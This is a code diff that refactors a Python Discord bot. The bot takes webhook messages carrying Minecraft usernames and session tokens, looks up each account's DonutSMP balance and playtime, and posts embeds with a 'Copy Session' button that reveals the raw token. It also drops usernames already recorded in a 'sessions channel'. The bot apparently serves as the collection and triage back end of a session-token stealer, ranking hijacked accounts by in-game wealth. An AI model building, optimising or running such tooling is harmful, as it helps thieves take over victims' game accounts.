@@ -1,12 +1,17 @@
 import discord
 from discord.ext import commands
 from discord.ui import Button, View
-import re
 import os
 import asyncio
 import logging
+import time
+from collections import OrderedDict
 import aiohttp
-from aiohttp import web
+import orjson
+try:
+    import uvloop
+except ImportError:  # uvloop has no Windows support
+    uvloop = None
 
 logging.basicConfig(level=logging.INFO)
 logger = logging.getLogger(__name__)
@@ -26,9 +31,51 @@ if not OUTPUT_CHANNEL_ID:
 if not API_KEY:
     raise ValueError("DONUTSMP_API_KEY environment variable not set")
 
+_AUTH_HEADERS = {"Authorization": f"Bearer {API_KEY}"}
+
 intents = discord.Intents.default()
 intents.message_content = True
 bot = commands.Bot(command_prefix='!', intents=intents)
+bot.http_session = None
+bot.embed_sender = None
+bot.output_channel = None
+bot.total_users = 0
+
+STATS_CACHE_TTL = 120
+STATS_CACHE_MAX = 512
+_stats_cache = OrderedDict()
+
+# Caps in-flight DonutSMP requests; 500 means "unknown player" there so it isn't retried
+_api_semaphore = asyncio.Semaphore(4)
+API_RETRY_STATUSES = (429, 502, 503, 504)
+API_MAX_RETRY_AFTER = 5
+
+# Built once and shared so each embed doesn't wrap the int in a new Colour
+VALID_EMBED_COLOR = discord.Colour(0x5865F2)  # Discord blurple
+INVALID_EMBED_COLOR = discord.Colour(0xff6666)  # Light red for errors or N/A sessions
+HEAD_URL = "https://mc-heads.net/body/{}/500"
+
+# Discord allows up to 10 embeds per message
+EMBED_BATCH_SIZE = 10
+EMBED_BATCH_WINDOW = 0.5
+EMBED_FLUSH_TIMEOUT = 10
+_embed_queue = asyncio.Queue()
+
+class _SessionButton(Button):
+    def __init__(self):
+        super().__init__(label="Copy Session", style=discord.ButtonStyle.primary)
+    
+    async def callback(self, interaction):
+        await interaction.response.send_message(f"```\n{self.view.session_token}\n```", ephemeral=True)
+        logger.info(f"Session copied by {interaction.user}")
+
+class _IgnButton(Button):
+    def __init__(self):
+        super().__init__(label="Copy IGN", style=discord.ButtonStyle.secondary)
+    
+    async def callback(self, interaction):
+        await interaction.response.send_message(f"```\n{self.view.username}\n```", ephemeral=True)
+        logger.info(f"IGN copied by {interaction.user}")
 
 class AccountView(View):
     def __init__(self, username, session_token, playtime, balance):
@@ -38,29 +85,27 @@ class AccountView(View):
         self.playtime = playtime
         self.balance = balance
         
-        session_btn = Button(label="Copy Session", style=discord.ButtonStyle.primary)
-        session_btn.callback = self.session_callback
-        self.add_item(session_btn)
-        
-        ign_btn = Button(label="Copy IGN", style=discord.ButtonStyle.secondary)
-        ign_btn.callback = self.ign_callback
-        self.add_item(ign_btn)
-    
-    async def session_callback(self, interaction):
-        await interaction.response.send_message(f"```\n{self.session_token}\n```", ephemeral=True)
-        logger.info(f"Session copied by {interaction.user}")
-    
-    async def ign_callback(self, interaction):
-        await interaction.response.send_message(f"```\n{self.username}\n```", ephemeral=True)
-        logger.info(f"IGN copied by {interaction.user}")
+        self.add_item(_SessionButton())
+        self.add_item(_IgnButton())
+
+def _field_value(content, lowered, key):
+    # Same as the old `Key:\s*(\S+)` regex: the key may sit anywhere and the
+    # value is the next whitespace-delimited token, even on a following line
+    start = lowered.find(key)
+    if start == -1:
+        return None
+    value = content[start + len(key):].split(None, 1)
+    return value[0] if value else None
 
 def parse_account_data(content):
-    username = re.search(r'Username:\s*(\S+)', content, re.IGNORECASE)
-    session = re.search(r'Session Token:\s*(\S+)', content, re.IGNORECASE)
+    lowered = content.lower()
+    if len(lowered) != len(content):
+        # A few characters (e.g. 'İ') lowercase to two code points; keep offsets aligned
+        lowered = ''.join(c.lower() if len(c.lower()) == 1 else c for c in content)
     
     return (
-        username.group(1) if username else None,
-        session.group(1) if session else None
+        _field_value(content, lowered, 'username:'),
+        _field_value(content, lowered, 'session token:')
     )
 
 def format_playtime(ms):
@@ -68,7 +113,10 @@ def format_playtime(ms):
         if ms is None:
             return "None"
         
-        seconds_int = int(float(ms)) // 1000
+        try:
+            seconds_int = int(ms) // 1000
+        except ValueError:
+            seconds_int = int(float(ms)) // 1000
         
         if seconds_int <= 0:
             return "None"
@@ -93,60 +141,112 @@ def format_balance(balance_str):
         if balance_str is None:
             return "0"
             
-        if 'e' in str(balance_str).lower():
-            balance_float = float(balance_str)
+        # Balances are usually whole numbers, so skip the float parse when possible
+        if isinstance(balance_str, int):
+            balance = balance_str
+        elif isinstance(balance_str, str):
+            try:
+                balance = int(balance_str)
+            except ValueError:
+                balance = float(balance_str)
         else:
-            balance_float = float(balance_str)
+            balance = float(balance_str)
             
-        if balance_float <= 0:
+        if balance <= 0:
             return "0"
             
-        if balance_float >= 1_000_000_000_000:
-            value = balance_float / 1_000_000_000_000
+        if balance >= 1_000_000_000_000:
+            value = balance / 1_000_000_000_000
             formatted = f"{value:.1f}".rstrip('0').rstrip('.') if '.' in f"{value:.1f}" else f"{value:.1f}"
             return f"{formatted}t"
             
-        elif balance_float >= 1_000_000_000:
-            value = balance_float / 1_000_000_000
+        elif balance >= 1_000_000_000:
+            value = balance / 1_000_000_000
             formatted = f"{value:.1f}".rstrip('0').rstrip('.') if '.' in f"{value:.1f}" else f"{value:.1f}"
             return f"{formatted}b"
             
-        elif balance_float >= 1_000_000:
-            value = balance_float / 1_000_000
+        elif balance >= 1_000_000:
+            value = balance / 1_000_000
             formatted = f"{value:.1f}".rstrip('0').rstrip('.') if '.' in f"{value:.1f}" else f"{value:.1f}"
             return f"{formatted}m"
             
-        elif balance_float >= 1_000:
-            value = balance_float / 1_000
+        elif balance >= 1_000:
+            value = balance / 1_000
             formatted = str(int(round(value)))
             return f"{formatted}k"
             
         else:
-            formatted = str(int(round(balance_float)))
+            formatted = str(int(round(balance)))
             return formatted
             
     except (ValueError, TypeError) as e:
         logger.error(f"Error formatting balance '{balance_str}': {e}")
         return "0"
 
+def build_account_embed(username, playtime, balance):
+    embed = discord.Embed(title=username, color=VALID_EMBED_COLOR)
+    embed.add_field(name="Balance", value=balance, inline=True)
+    embed.add_field(name="Playtime", value=playtime, inline=True)
+    embed.set_thumbnail(url=HEAD_URL.format(username))
+    return embed
+
+def build_invalid_embed(username, description):
+    embed = discord.Embed(title=username, description=description, color=INVALID_EMBED_COLOR)
+    embed.set_thumbnail(url=HEAD_URL.format(username))
+    return embed
+
 async def fetch_donutsmp_stats(username):
-    headers = {"Authorization": f"Bearer {API_KEY}"}
-    stats_url = f"https://api.donutsmp.net/v1/stats/{username}"
+    key = username.lower()
+    entry = _stats_cache.get(key)
+    if entry and time.monotonic() - entry[0] < STATS_CACHE_TTL:
+        _stats_cache.move_to_end(key)
+        return entry[1]
+    
+    result = await _fetch_donutsmp_stats(username)
     
-    async with aiohttp.ClientSession() as session:
+    # Only successful lookups are cached so missing/erroring players get retried
+    if result[2]:
+        _stats_cache[key] = (time.monotonic(), result)
+        _stats_cache.move_to_end(key)
+        while len(_stats_cache) > STATS_CACHE_MAX:
+            _stats_cache.popitem(last=False)
+    return result
+
+def _retry_delay(response):
+    if response.status == 429:
         try:
-            logger.info(f"Fetching stats for {username} from {stats_url}")
-            async with session.get(stats_url, headers=headers) as response:
-                logger.info(f"Response status for {username}: {response.status}")
+            return min(float(response.headers.get("Retry-After", 1)), API_MAX_RETRY_AFTER)
+        except ValueError:
+            return 1
+    return 0.25
+
+async def _fetch_donutsmp_stats(username):
+    stats_url = f"https://api.donutsmp.net/v1/stats/{username}"
+    
+    try:
+        logger.debug("Fetching stats for %s from %s", username, stats_url)
+        retry_delay = 0
+        for attempt in range(2):
+            if retry_delay:
+                await asyncio.sleep(retry_delay)
+            async with _api_semaphore, bot.http_session.get(stats_url) as response:
+                logger.debug("Response status for %s: %s", username, response.status)
+                
+                if not attempt and response.status in API_RETRY_STATUSES:
+                    retry_delay = _retry_delay(response)
+                    logger.warning("Got %s for %s, retrying in %ss", response.status, username, retry_delay)
+                    continue
                 
-                raw_text = await response.text()
-                logger.info(f"Raw response for {username}: {raw_text}")
+                # Read the body once as bytes; orjson parses bytes directly and text is only for logs
+                body = await response.read()
+                if logger.isEnabledFor(logging.DEBUG):
+                    logger.debug("Raw response for %s: %s", username, body.decode(errors="replace"))
                 
                 if response.status == 200:
                     try:
-                        data = await response.json(content_type=None)
-                    except Exception as e:
-                        logger.error(f"Failed to parse JSON for {username}: {e}, raw: {raw_text}")
+                        data = orjson.loads(body)
+                    except orjson.JSONDecodeError as e:
+                        logger.error(f"Failed to parse JSON for {username}: {e}, raw: {body.decode(errors='replace')}")
                         return "None", "0", False
                     
                     if data.get("status") != 200 and data.get("status") != 0:
@@ -157,28 +257,88 @@ async def fetch_donutsmp_stats(username):
                     if stats and isinstance(stats, dict):
                         playtime = format_playtime(stats.get("playtime", "0"))
                         balance = format_balance(stats.get("money", "0"))
-                        logger.info(f"Successfully fetched stats for {username}: playtime={playtime}, balance={balance}")
+                        logger.debug("Successfully fetched stats for %s: playtime=%s, balance=%s", username, playtime, balance)
                         return playtime, balance, True
                     else:
                         logger.warning(f"No 'result' dict in response for {username}: {data}")
                         return "None", "0", False
 
                 elif response.status == 401:
-                    logger.error(f"Unauthorized - check your API key! Response: {raw_text}")
+                    logger.error(f"Unauthorized - check your API key! Response: {body.decode(errors='replace')}")
                     return "None", "0", False
                 elif response.status == 500:
-                    logger.info(f"Player {username} does not exist on DonutSMP (500 response)")
+                    logger.debug("Player %s does not exist on DonutSMP (500 response)", username)
                     return "None", "0", False
                 else:
-                    logger.warning(f"Unexpected status {response.status} for {username}: {raw_text}")
+                    logger.warning(f"Unexpected status {response.status} for {username}: {body.decode(errors='replace')}")
                     return "None", "0", False
                     
-        except aiohttp.ClientError as e:
-            logger.error(f"Network error fetching DonutSMP stats for {username}: {e}")
-            return "None", "0", False
+    except aiohttp.ClientError as e:
+        logger.error(f"Network error fetching DonutSMP stats for {username}: {e}")
+        return "None", "0", False
+    except Exception as e:
+        logger.error(f"Unexpected error fetching DonutSMP stats for {username}: {e}", exc_info=True)
+        return "None", "0", False
+
+async def get_output_channel():
+    """Return the output channel, resolving it on first use if on_ready hasn't run yet."""
+    if bot.output_channel is None:
+        channel = bot.get_channel(OUTPUT_CHANNEL_ID)
+        if channel is None:
+            try:
+                channel = await bot.fetch_channel(OUTPUT_CHANNEL_ID)
+            except discord.HTTPException as e:
+                logger.error(f"Could not fetch output channel {OUTPUT_CHANNEL_ID}: {e}")
+                return None
+        bot.output_channel = channel
+    return bot.output_channel
+
+async def send_queued_embeds():
+    """Coalesce queued alert embeds into as few output channel messages as possible.
+
+    Runs until it takes a None off the queue, sending everything queued before it.
+    """
+    loop = asyncio.get_running_loop()
+    stopping = False
+    while not stopping:
+        embed = await _embed_queue.get()
+        if embed is None:
+            break
+        batch = [embed]
+        deadline = loop.time() + EMBED_BATCH_WINDOW
+        while len(batch) < EMBED_BATCH_SIZE:
+            remaining = deadline - loop.time()
+            if remaining <= 0:
+                break
+            try:
+                embed = await asyncio.wait_for(_embed_queue.get(), remaining)
+            except asyncio.TimeoutError:
+                break
+            if embed is None:
+                stopping = True
+                break
+            batch.append(embed)
+        
+        output_channel = await get_output_channel()
+        if not output_channel:
+            logger.error(f"Could not find output channel {OUTPUT_CHANNEL_ID}, dropping {len(batch)} embeds")
+            continue
+        try:
+            await output_channel.send(embeds=batch)
+            logger.debug("Sent batch of %s embeds to output channel", len(batch))
         except Exception as e:
-            logger.error(f"Unexpected error fetching DonutSMP stats for {username}: {e}", exc_info=True)
-            return "None", "0", False
+            # Keep the sender alive, otherwise every later alert stays stuck in the queue
+            logger.error(f"Failed to send batch of {len(batch)} embeds, dropping: {e}", exc_info=True)
+
+async def stop_embed_sender():
+    """Flush queued alerts before shutdown, cancelling the sender if it takes too long."""
+    if bot.embed_sender is None or bot.embed_sender.done():
+        return
+    _embed_queue.put_nowait(None)
+    try:
+        await asyncio.wait_for(bot.embed_sender, timeout=EMBED_FLUSH_TIMEOUT)
+    except asyncio.TimeoutError:
+        logger.error(f"Timed out flushing alert embeds, dropping {_embed_queue.qsize()} still queued")
 
 async def is_duplicate_username(channel, username):
     """Check if a username already exists in the channel's embed history."""
@@ -189,6 +349,22 @@ async def is_duplicate_username(channel, username):
                     return True
     return False
 
+@bot.event
+async def setup_hook():
+    # Runs once before the gateway connects, so messages seen before on_ready can use these
+    connector = aiohttp.TCPConnector(
+        limit=32,
+        ttl_dns_cache=300,
+        use_dns_cache=True,
+        resolver=aiohttp.AsyncResolver()
+    )
+    bot.http_session = aiohttp.ClientSession(
+        connector=connector,
+        headers=_AUTH_HEADERS,
+        timeout=aiohttp.ClientTimeout(total=10)
+    )
+    bot.embed_sender = asyncio.create_task(send_queued_embeds())
+
 @bot.event
 async def on_ready():
     logger.info(f'{bot.user} has connected to Discord!')
@@ -197,6 +373,8 @@ async def on_ready():
     
     input_channel = bot.get_channel(INPUT_CHANNEL_ID)
     output_channel = bot.get_channel(OUTPUT_CHANNEL_ID)
+    bot.output_channel = output_channel
+    bot.total_users = sum(g.member_count or 0 for g in bot.guilds)
     
     if input_channel:
         logger.info(f'Input channel found: #{input_channel.name}')
@@ -211,11 +389,14 @@ async def on_ready():
 
 @bot.event
 async def on_message(message):
-    if message.author.id == bot.user.id:
+    # Almost all traffic is outside the input channel, so check that first.
+    # process_commands already ignores bot authors, including ourselves.
+    if message.channel.id != INPUT_CHANNEL_ID:
+        await bot.process_commands(message)
         return
     
-    if message.channel.id == INPUT_CHANNEL_ID and message.webhook_id:
-        logger.info(f"Webhook received in input channel #{message.channel.name}")
+    if message.webhook_id:
+        logger.debug("Webhook received in input channel #%s", message.channel.name)
         
         username, session = parse_account_data(message.content)
         
@@ -223,21 +404,20 @@ async def on_message(message):
             logger.warning("Could not parse username or session from webhook")
             return
         
-        logger.info(f"Parsed username: {username}")
+        logger.debug("Parsed username: %s", username)
         
         # --- Duplicate check against the sessions channel (ID: 1471572261638246574) ---
         sessions_channel = bot.get_channel(1471572261638246574)
         if sessions_channel:
             if await is_duplicate_username(sessions_channel, username):
-                logger.info(f"Duplicate username '{username}' found in sessions channel — skipping.")
+                logger.debug("Duplicate username '%s' found in sessions channel — skipping.", username)
                 return
         else:
             logger.warning("Sessions channel not found, skipping duplicate check.")
 
         playtime, balance, valid = await fetch_donutsmp_stats(username)
-        head_url = f"https://mc-heads.net/body/{username}/500"
         
-        output_channel = bot.get_channel(OUTPUT_CHANNEL_ID)
+        output_channel = await get_output_channel()
         if not output_channel:
             logger.error(f"Could not find output channel {OUTPUT_CHANNEL_ID}")
             return
@@ -246,60 +426,46 @@ async def on_message(message):
         session_invalid = session.upper() == "N/A"
         
         if not valid or session_invalid:
-            # Lightly saturated red for errors or N/A sessions
-            embed_color = 0xff6666  # Light red
             description = "Account does not exist on DonutSMP" if not valid else "Session token is N/A"
-            
-            embed = discord.Embed(
-                title=username,
-                description=description,
-                color=embed_color
-            )
-            embed.set_thumbnail(url=head_url)
-            await output_channel.send(embed=embed)
-            logger.info(f"Invalid account alert sent for {username} - Reason: {'Invalid account' if not valid else 'N/A session'}")
+            embed = build_invalid_embed(username, description)
+            _embed_queue.put_nowait(embed)
+            logger.debug("Invalid account alert queued for %s - Reason: %s", username, "Invalid account" if not valid else "N/A session")
             return
         
-        # Regular Discord blue/purple for valid accounts
-        embed = discord.Embed(
-            title=username,
-            color=0x5865F2  # Discord blurple
-        )
-        embed.add_field(name="Balance", value=balance, inline=True)
-        embed.add_field(name="Playtime", value=playtime, inline=True)
-        embed.set_thumbnail(url=head_url)
-        
+        embed = build_account_embed(username, playtime, balance)
         view = AccountView(username, session, playtime, balance)
         await output_channel.send(embed=embed, view=view)
-        logger.info(f"Account embed sent to output channel for {username}")
+        logger.debug("Account embed sent to output channel for %s", username)
     
     await bot.process_commands(message)
 
+@bot.event
+async def on_guild_join(guild):
+    bot.total_users += guild.member_count or 0
+
+@bot.event
+async def on_guild_remove(guild):
+    bot.total_users -= guild.member_count or 0
+
+# Guilds still unavailable at ready (outages, large bots) arrive through these
+@bot.event
+async def on_guild_available(guild):
+    bot.total_users += guild.member_count or 0
+
+@bot.event
+async def on_guild_unavailable(guild):
+    bot.total_users -= guild.member_count or 0
+
 @bot.command(name='lookup')
 async def lookup(ctx, username: str):
     async with ctx.typing():
         playtime, balance, valid = await fetch_donutsmp_stats(username)
-        head_url = f"https://mc-heads.net/body/{username}/500"
         
         if not valid:
-            embed = discord.Embed(
-                title=username,
-                description="Account does not exist on DonutSMP",
-                color=0xff6666  # Light red
-            )
-            embed.set_thumbnail(url=head_url)
-            await ctx.send(embed=embed)
+            await ctx.send(embed=build_invalid_embed(username, "Account does not exist on DonutSMP"))
             return
         
-        embed = discord.Embed(
-            title=username,
-            color=0x5865F2  # Discord blurple
-        )
-        embed.add_field(name="Balance", value=balance, inline=True)
-        embed.add_field(name="Playtime", value=playtime, inline=True)
-        embed.set_thumbnail(url=head_url)
-        
-        await ctx.send(embed=embed)
+        await ctx.send(embed=build_account_embed(username, playtime, balance))
 
 @bot.command(name='ping')
 async def ping(ctx):
@@ -307,30 +473,55 @@ async def ping(ctx):
 
 @bot.command(name='stats')
 async def stats(ctx):
-    total_users = sum(g.member_count for g in bot.guilds)
-    embed = discord.Embed(title="Bot Statistics", color=0x5865F2)
+    embed = discord.Embed(title="Bot Statistics", color=VALID_EMBED_COLOR)
     embed.add_field(name="Guilds", value=f"`{len(bot.guilds)}`")
-    embed.add_field(name="Users", value=f"`{total_users}`")
+    embed.add_field(name="Users", value=f"`{bot.total_users}`")
     embed.add_field(name="Latency", value=f"`{round(bot.latency * 1000)}ms`")
     await ctx.send(embed=embed)
 
-async def health_check(request):
-    return web.Response(text="Bot is operational")
+HEALTH_CHECK_READ_TIMEOUT = 5
+HEALTH_CHECK_RESPONSE = (
+    b"HTTP/1.1 200 OK\r\n"
+    b"Content-Type: text/plain\r\n"
+    b"Content-Length: 18\r\n"
+    b"Connection: close\r\n"
+    b"\r\n"
+    b"Bot is operational"
+)
+
+async def health_check(reader, writer):
+    # Every request gets the same static reply, so there is nothing to route
+    try:
+        # Don't let a client that never finishes its headers hold the handler (and shutdown) open
+        await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), timeout=HEALTH_CHECK_READ_TIMEOUT)
+        writer.write(HEALTH_CHECK_RESPONSE)
+        await writer.drain()
+    except (asyncio.TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ConnectionError):
+        pass
+    finally:
+        writer.close()
+        try:
+            await writer.wait_closed()
+        except ConnectionError:
+            pass
 
 async def start_webserver():
-    app = web.Application()
-    app.router.add_get('/', health_check)
-    app.router.add_get('/health', health_check)
-    runner = web.AppRunner(app)
-    await runner.setup()
-    site = web.TCPSite(runner, '0.0.0.0', PORT)
-    await site.start()
+    server = await asyncio.start_server(health_check, '0.0.0.0', PORT)
     logger.info(f"Health check server running on port {PORT}")
+    return server
 
 async def main():
-    asyncio.create_task(start_webserver())
-    async with bot:
-        await bot.start(TOKEN)
+    server = await start_webserver()
+    async with server, bot:
+        try:
+            await bot.start(TOKEN)
+        finally:
+            await stop_embed_sender()
+            if bot.http_session is not None:
+                await bot.http_session.close()
 
 if __name__ == "__main__":
-    asyncio.run(main())
+    if uvloop is not None:
+        uvloop.run(main())
+    else:
+        asyncio.run(main())